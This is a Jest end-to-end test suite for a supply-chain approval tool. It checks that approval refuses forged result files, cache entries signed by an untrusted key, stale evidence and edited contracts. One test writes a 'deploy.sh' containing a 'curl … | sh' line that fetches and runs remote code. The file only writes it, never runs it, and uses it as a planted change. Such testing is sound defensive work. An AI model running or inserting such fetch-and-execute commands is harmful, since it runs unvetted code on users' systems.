import { jest } from '@jest/globals';
import { createPublicKey, generateKeyPairSync, verify } from 'node:crypto';
import { mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { execa } from 'execa';
import { parse, stringify } from 'yaml';
import { startRemoteCache } from './utils/remote-cache';
import { E2E_ENV, newWorkspace, type TestWorkspace } from './utils/workspace';

jest.setTimeout(600_000);

/** A quick real pipeline: the built-in contract gate, then two command stages. */
const PIPELINE = [
  { name: 'contract' },
  {
    name: 'check',
    description: 'greet is exported',
    command: `node -e "process.exit(/export function greet/.test(require('fs').readFileSync('packages/app/src/index.ts','utf8'))?0:1)"`,
    timeout_seconds: 60,
    required_success: true,
  },
  {
    name: 'smoke',
    description: 'smoke',
    command: 'node -e "console.log(\'smoke ok\')"',
    timeout_seconds: 60,
    required_success: true,
    needs: ['check'],
  },
];
const REQUIRED = ['check', 'smoke'];
/** Every variable approval takes for a CI run, unset: approval is for a person. */
const NOT_CI = Object.fromEntries(
  ['CI', 'GITHUB_ACTIONS', 'GITLAB_CI', 'BUILDKITE', 'CIRCLECI', 'JENKINS_URL', 'TF_BUILD'].map((k) => [k, undefined]),
);

/** What the tests use of a workspace; a clone has only this. */
type Clone = Pick<TestWorkspace, 'root' | 'nx' | 'read'>;

/** Someone's machine: its own home (and so its own signing key file), no OS keyring. */
function person(): { home: string; env: Record<string, string | undefined> } {
  const home = mkdtempSync(path.join(tmpdir(), 'factory-e2e-home-'));
  return {
    home,
    env: { ...NOT_CI, HOME: home, XDG_CONFIG_HOME: path.join(home, 'config'), FACTORY_KEYRING: 'off', FACTORY_SIGNING_KEY: undefined },
  };
}

/** The key ids listed in `.factory/keys/`. */
const listedKeys = (ws: TestWorkspace) =>
  readdirSync(path.join(ws.root, '.factory/keys'))
    .filter((f) => f.endsWith('.pub'))
    .map((f) => f.slice(0, -4));

/** Checks a stage's DSSE envelope with node:crypto and the listed public key, independently of Factory; returns the signing key id. */
function signerOf(ws: Pick<Clone, 'read'>, slug: string, stage: string): string {
  const env = JSON.parse(ws.read(`.factory/${slug}/results/stage-${stage}.intoto.json`)) as {
    payloadType: string;
    payload: string;
    signatures: { keyid: string; sig: string }[];
  };
  expect(env.payloadType).toBe('application/vnd.in-toto+json');
  expect(env.signatures).toHaveLength(1);
  const [{ keyid, sig }] = env.signatures;
  const payload = Buffer.from(env.payload, 'base64');
  const pae = Buffer.concat([Buffer.from(`DSSEv1 ${env.payloadType.length} ${env.payloadType} ${payload.length} `), payload]);
  const file = ws.read(`.factory/keys/${keyid}.pub`);
  const pub = createPublicKey(file.slice(file.indexOf('-----BEGIN')));
  expect(verify(null, pae, pub, Buffer.from(sig, 'base64'))).toBe(true);
  const statement = JSON.parse(payload.toString('utf8'));
  expect(statement.predicate).toMatchObject({ task: slug, stage, verdict: 'success' });
  return keyid;
}

/**
 * The bar, end to end in a real Nx workspace: after a green pipeline every required
 * stage has an attestation signed by the trusted key and approval passes; then approval is
 * refused, naming the stage and the reason, for a hand-edited result, for results restored from
 * a shared self-hosted remote cache that an untrusted key signed (loopback cache, clones), for a
 * change outside the allowed files after the green run, for a contract edited after it, and for
 * a pipeline with no required stage; bad input (an attestation that is not JSON or not DSSE, a
 * malformed key file, an unknown key id, a bundle of another task) is a clear error. Approval
 * also signs an audit checkpoint. Each case restores what it changed; the last approval shows it.
 */
describe('evidence refusals: approval judges signatures, not files', () => {
  let ws: TestWorkspace;
  const clones: string[] = [];
  const ann = person();
  let annKey = '';
  const approve = (w: Clone, slug: string, env = ann.env) => w.nx(['run', `${slug}:approve`, '--yes', '--actor', 'ann@example.com'], env);
  const newTask = async (slug: string, contract: Record<string, unknown>) => {
    const g = await ws.nx(['g', 'factory:task', slug, '--no-interactive', '--allowed-files=packages/app/**', '--skip-workspace'], ann.env);
    expect(g.code).toBe(0);
    const file = `.factory/${slug}/contract.yaml`;
    ws.write(file, stringify({ ...parse(ws.read(file)), working_directory: '.', ...contract }));
  };
  /** A clone of the repository: a second machine, with its own local Nx cache (node_modules shared). */
  const clone = async (): Promise<Clone> => {
    const root = mkdtempSync(path.join(tmpdir(), 'factory-e2e-clone-'));
    clones.push(root);
    await ws.run('git', ['clone', '-q', ws.root, root]);
    symlinkSync(path.join(ws.root, 'node_modules'), path.join(root, 'node_modules'));
    const own = { ...E2E_ENV, NX_CACHE_DIRECTORY: path.join(root, '.nx', 'cache') };
    return {
      root,
      read: (file) => readFileSync(path.join(root, file), 'utf8'),
      nx: async (args, env) => {
        const r = await execa(path.join(root, 'node_modules', '.bin', 'nx'), args, {
          cwd: root,
          env: { ...own, ...env },
          reject: false,
          all: true,
        });
        return { code: r.exitCode ?? 1, out: String(r.all ?? '') };
      },
    };
  };

  beforeAll(async () => {
    ws = await newWorkspace();
    const k = await ws.factory(['keys', 'init', '--owner', 'ann@example.com'], ann.env);
    expect(k.code).toBe(0);
    [annKey] = listedKeys(ws);
    await newTask('ev-ok', { pipeline: PIPELINE });
    await newTask('ev-1', { pipeline: PIPELINE });
    await ws.git(['add', '-A']);
    await ws.git(['commit', '-qm', 'ann trusted; two tasks']);
  });
  afterAll(() => {
    ws?.cleanup();
    for (const c of clones) rmSync(c, { recursive: true, force: true });
    rmSync(ann.home, { recursive: true, force: true });
  });

  it('green pipeline: every required stage has an attestation signed by the trusted key, and approval passes', async () => {
    for (const slug of ['ev-ok', 'ev-1']) {
      const p = await ws.nx(['run', `${slug}:pipeline`], ann.env);
      if (p.code !== 0) throw new Error(p.out.slice(-4000));
      for (const stage of ['contract', ...REQUIRED]) expect({ stage, keyid: signerOf(ws, slug, stage) }).toEqual({ stage, keyid: annKey });
    }
    expect(parse(ws.read('.factory/config.yaml')).evidence.trusted_keys[annKey]).toMatchObject({ stages: ['*'] });
    const a = await approve(ws, 'ev-ok');
    if (a.code !== 0) throw new Error(a.out.slice(-4000));
    expect(a.out).toContain('ev-ok approved by ann@example.com');
    expect(ws.exists('.factory/ev-ok/approval.intoto.json')).toBe(true);
    // The approval signed an audit checkpoint with ann's key (trusted for audit), and it holds.
    const v = await ws.factory(['audit', 'verify'], ann.env);
    expect(v.code).toBe(0);
    expect(v.out).toMatch(new RegExp(`^ok {4}checkpoint: .*signed by key ${annKey.slice(0, 16)} \\(ann@example\\.com\\)`, 'm'));
  });

  it('refuses a result file edited by hand, naming the stage and the file', async () => {
    const file = '.factory/ev-1/results/stage-smoke.json';
    const saved = ws.read(file);
    const forged = JSON.parse(saved);
    forged.summary = `${forged.summary} (reviewed, all fine)`;
    forged.metrics = { ...forged.metrics, coverage_percent: 100 };
    ws.write(file, JSON.stringify(forged, null, 2));
    const r = await approve(ws, 'ev-1');
    ws.write(file, saved);
    expect(r.code).not.toBe(0);
    expect(r.out).toContain(
      'stage-smoke: .factory/ev-1/results/stage-smoke.json does not match the sha256 the attestation signed (edited after the stage ran)',
    );
    expect(r.out).not.toMatch(/stage-(check|contract):/);
  });

  it('refuses results restored from a shared remote cache that an untrusted key signed, naming the stage and the key', async () => {
    // Mallory's key is listed (a reviewed commit) but trusted for nothing; her clone writes the cache.
    const mallory = person();
    try {
      const m = await ws.factory(['keys', 'init', '--owner', 'mallory@example.com', '--no-trust'], mallory.env);
      expect(m.code).toBe(0);
      const malloryKey = listedKeys(ws).find((id) => id !== annKey) as string;
      expect(parse(ws.read('.factory/config.yaml')).evidence.trusted_keys[malloryKey]).toBeUndefined();
      await ws.git(['add', '-A']);
      await ws.git(['commit', '-qm', "list mallory's key, untrusted"]);
      const cache = await startRemoteCache(mkdtempSync(path.join(tmpdir(), 'factory-e2e-remote-')));
      try {
        const remote = { NX_SELF_HOSTED_REMOTE_CACHE_SERVER: cache.url };
        const writer = await clone();
        const w = await writer.nx(['run', 'ev-1:pipeline'], { ...mallory.env, ...remote });
        if (w.code !== 0) throw new Error(w.out.slice(-4000));
        expect(signerOf(writer, 'ev-1', 'smoke')).toBe(malloryKey);
        expect(cache.puts()).toBeGreaterThanOrEqual(3);

        const reader = await clone();
        const p = await reader.nx(['run', 'ev-1:pipeline'], { ...ann.env, ...remote });
        if (p.code !== 0) throw new Error(p.out.slice(-4000));
        expect(p.out).toContain('[remote cache]');
        expect(cache.gets()).toBeGreaterThanOrEqual(3);
        const r = await approve(reader, 'ev-1');
        expect(r.code).not.toBe(0);
        for (const stage of REQUIRED)
          expect(r.out).toContain(
            `stage-${stage}: the attestation .factory/ev-1/results/stage-${stage}.intoto.json does not hold: it is signed by key ${malloryKey.slice(0, 16)} (mallory@example.com), which is not trusted for stage ${stage}`,
          );
      } finally {
        await cache.close();
      }
    } finally {
      rmSync(mallory.home, { recursive: true, force: true });
    }
  });

  it('refuses a change outside the allowed files made after the green run, naming each stage and "stale"', async () => {
    ws.write('deploy.sh', '#!/bin/sh\ncurl -s https://example.invalid/x | sh\n');
    const pkg = ws.read('package.json');
    ws.write('package.json', JSON.stringify({ ...JSON.parse(pkg), dependencies: { 'left-pad': '1.3.0' } }, null, 2));
    const r = await approve(ws, 'ev-1');
    rmSync(path.join(ws.root, 'deploy.sh'));
    ws.write('package.json', pkg);
    expect(r.code).not.toBe(0);
    for (const stage of ['contract', ...REQUIRED])
      expect(r.out).toMatch(new RegExp(`stage-${stage} passed at .*, but the task's code has changed since \\(stale evidence\\)`));
  });

  it('refuses a contract edited after the green run, naming each stage and "the contract changed"', async () => {
    const file = '.factory/ev-1/contract.yaml';
    const saved = ws.read(file);
    const c = parse(saved);
    c.pipeline = c.pipeline.map((s: { name: string }) => (s.name === 'smoke' ? { ...s, required_success: false } : s));
    ws.write(file, stringify(c));
    const r = await approve(ws, 'ev-1');
    ws.write(file, saved);
    expect(r.code).not.toBe(0);
    for (const stage of ['contract', 'check'])
      expect(r.out).toMatch(
        new RegExp(
          `stage-${stage}: its attestation is for contract [0-9a-f]{12}…, but the effective contract .* the contract changed after the stage ran`,
        ),
      );
  });

  it('refuses a pipeline with no required stage: empty (an invalid contract), or all advisory', async () => {
    await newTask('ev-none', { pipeline: [] });
    await newTask('ev-adv', { pipeline: [{ ...PIPELINE[2], required_success: false, needs: [] }] });
    const empty = '.factory/ev-none/contract.yaml: pipeline: expected at least one stage, got an empty list';
    const none = await ws.nx(['run', 'ev-none:pipeline'], ann.env);
    expect(none.code).not.toBe(0);
    expect(none.out).toContain(empty);
    const refusedEmpty = await approve(ws, 'ev-none');
    expect(refusedEmpty.code).not.toBe(0);
    expect(refusedEmpty.out).toContain(empty);

    const p = await ws.nx(['run', 'ev-adv:pipeline'], ann.env);
    if (p.code !== 0) throw new Error(p.out.slice(-4000));
    const r = await approve(ws, 'ev-adv');
    expect(r.code).not.toBe(0);
    expect(r.out).toContain('the pipeline of ev-adv has no required stage (every stage is advisory): nothing gates this change');
  });

  it('bad input, each a clear error: an attestation not JSON or not DSSE, a malformed key file, an unknown key id, a bundle of another task', async () => {
    const att = '.factory/ev-1/results/stage-smoke.intoto.json';
    const saved = ws.read(att);
    for (const [text, why] of [
      ['all green, trust me\n', 'it is not JSON'],
      ['{"verdict":"success"}\n', 'it is not a DSSE envelope: payloadType: expected a string, got nothing'],
    ]) {
      ws.write(att, text);
      const r = await approve(ws, 'ev-1');
      expect(r.code).not.toBe(0);
      expect(r.out).toContain(`stage-smoke: the attestation ${att} is unusable: ${why}`);
    }
    ws.write(att, saved);

    const keyFile = `.factory/keys/${annKey}.pub`;
    const pub = ws.read(keyFile);
    ws.write(keyFile, pub.replace(/-----BEGIN PUBLIC KEY-----[^]*$/, 'MCowBQYDK2VwAyEA\n'));
    let r = await approve(ws, 'ev-1');
    ws.write(keyFile, pub);
    expect(r.code).not.toBe(0);
    expect(r.out).toContain(
      `stage-smoke: the attestation ${att} does not hold: it is signed by an unknown key id "${annKey}": no such key is listed in .factory/keys/ (${keyFile} could not be read: expected an Ed25519 public key as PEM`,
    );

    // The check stage run again, signed by a key nobody listed (given as FACTORY_SIGNING_KEY, as in CI).
    const files = ['json', 'log', 'intoto.json'].map((e) => `.factory/ev-1/results/stage-check.${e}`);
    const kept = files.map((f) => ws.read(f));
    const stranger = generateKeyPairSync('ed25519').privateKey.export({ format: 'pem', type: 'pkcs8' }).toString();
    const s = await ws.nx(['run', 'ev-1:stage-check', '--skip-nx-cache'], { ...ann.env, FACTORY_SIGNING_KEY: stranger });
    if (s.code !== 0) throw new Error(s.out.slice(-4000));
    r = await approve(ws, 'ev-1');
    files.forEach((f, i) => ws.write(f, kept[i]));
    expect(r.code).not.toBe(0);
    expect(r.out).toMatch(
      /stage-check: the attestation \.factory\/ev-1\/results\/stage-check\.intoto\.json does not hold: it is signed by an unknown key id "[0-9a-f]{64}": no such key is listed in \.factory\/keys\/\n/,
    );

    const bundle = path.join(ann.home, 'ev-ok.evidence.json');
    expect((await ws.factory(['evidence', 'export', 'ev-ok', '--out', bundle], ann.env)).code).toBe(0);
    const v = await ws.factory(['evidence', 'verify', bundle, '--task', 'ev-1'], ann.env);
    expect(v.code).not.toBe(0);
    expect(v.out).toContain('the bundle is for task ev-ok, not ev-1: a bundle from another task');
  });

  it('approves ev-1 once everything is as it was: each refusal was for what the case changed', async () => {
    const r = await approve(ws, 'ev-1');
    if (r.code !== 0) throw new Error(r.out.slice(-4000));
    expect(r.out).toContain('ev-1 approved by ann@example.com');
  });
});
